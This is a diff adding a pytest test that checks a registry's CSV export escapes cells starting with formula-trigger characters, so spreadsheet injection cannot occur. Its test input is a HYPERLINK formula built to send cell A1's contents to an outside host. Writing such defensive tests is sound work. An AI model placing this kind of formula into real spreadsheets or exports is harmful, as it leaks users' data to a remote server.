@@ -114,3 +114,12 @@ def test_the_consoles_log_names_no_erased_person(admin_user):
     assert LogEntry.objects.get().object_repr == "Annabel"
     async_to_sync(registry.erase_person)(ANN)
     assert LogEntry.objects.get().object_repr == str(ANN)
+
+
+@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
+def test_no_cell_of_the_csv_is_a_formula(begins):
+    said = f'{begins}HYPERLINK("http://example.org?"&A1)'
+    cells = {"text": said, "id": "-7", "n": -7}
+    (row,) = csv.DictReader(StringIO(registry._csv([cells]), newline=""))
+    assert row["text"] == f"'{said}"
+    assert (row["id"], row["n"]) == ("-7", "-7")
